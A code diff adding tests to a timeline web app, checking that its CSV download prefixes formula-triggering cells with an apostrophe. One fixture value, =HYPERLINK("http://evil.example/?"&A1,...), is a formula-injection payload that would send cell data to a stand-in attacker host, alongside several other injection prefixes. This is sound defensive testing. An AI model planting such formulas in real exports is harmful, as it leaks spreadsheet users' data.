@@ -94,3 +94,61 @@ def test_filter_text_in_the_feed_name_is_escaped(danger_client, query):
     assert response.status_code == 200
     cal = icalendar.Calendar.from_ical(response.get_data())
     assert "X-INJECTED" not in cal and str(cal["NAME"]) == str(cal["X-WR-CALNAME"])
+
+
+# Cells a spreadsheet would run as formulas, in every text column of the CSV download.
+FORMULAS = {
+    "title": '=HYPERLINK("http://evil.example/?"&A1,"详情")',
+    "category": "+研发",
+    "tags": ("@SUM(1+1)", "普通"),
+    "summary": "\t=1+1",
+    "document": "-2+3",
+}
+
+
+@pytest.fixture(scope="module")
+def formula_client(tmp_path_factory):
+    from web import create_app
+
+    hostile = replace(event("formula-1", FORMULAS["title"], "2020-05-01", category=FORMULAS["category"],
+                            tags=FORMULAS["tags"]), summary=FORMULAS["summary"])
+    plain = event("plain-1", "青山湖科技城举行签约仪式", "2020-05-02", category="产业发展", tags=("签约",))
+
+    def load(sessionmaker):
+        with sessionmaker.begin() as session:
+            store_document(session, document(hostile, plain, name=FORMULAS["document"]), path="formula.txt",
+                           sha256="f" * 64, now=datetime(2021, 1, 1, tzinfo=timezone.utc))
+
+    url = seed_database(f"sqlite:///{tmp_path_factory.mktemp('formula') / 'timeline.sqlite'}", load)
+    app = create_app({"TESTING": True, "DATABASE_URL": url})
+    yield app.test_client()
+    app.extensions["timeline.engine"].dispose()
+
+
+def test_csv_download_neutralises_formulas(formula_client):
+    import csv
+    import io
+
+    response = formula_client.get("/download.csv?year=2020")
+    assert response.status_code == 200
+    rows = {row["key"]: row for row in csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")))}
+    stored = {e["key"]: e for e in formula_client.get("/api/events?year=2020").get_json()["events"]}
+    hostile, plain = rows["formula-1"], rows["plain-1"]
+    assert stored["formula-1"]["title"] == FORMULAS["title"] and stored["formula-1"]["summary"] == "\t=1+1"
+    assert hostile["title"] == "'" + FORMULAS["title"]
+    assert hostile["category"] == "'+研发"
+    assert hostile["tags"] == "'@SUM(1+1)；普通"
+    assert hostile["summary"] == "'\t=1+1"
+    assert hostile["document"] == "'-2+3"
+    # What cannot start a formula is left exactly as stored.
+    assert (plain["title"], plain["category"], plain["tags"]) == ("青山湖科技城举行签约仪式", "产业发展", "签约")
+    assert (hostile["start"], hostile["url"]) == ("2020-05-01", "/events/formula-1")
+    assert plain["document"] == "'-2+3"
+
+
+def test_a_cell_opening_with_a_carriage_return_is_neutralised_too():
+    # The store removes CRs from text (timeline.events.validate), so no stored event carries one.
+    from timeline.events.export import csv_cell
+
+    assert csv_cell("\r=1+1") == "'\r=1+1"
+    assert csv_cell("2020-05-01") == "2020-05-01" and csv_cell(None) == "" and csv_cell(3) == "3"
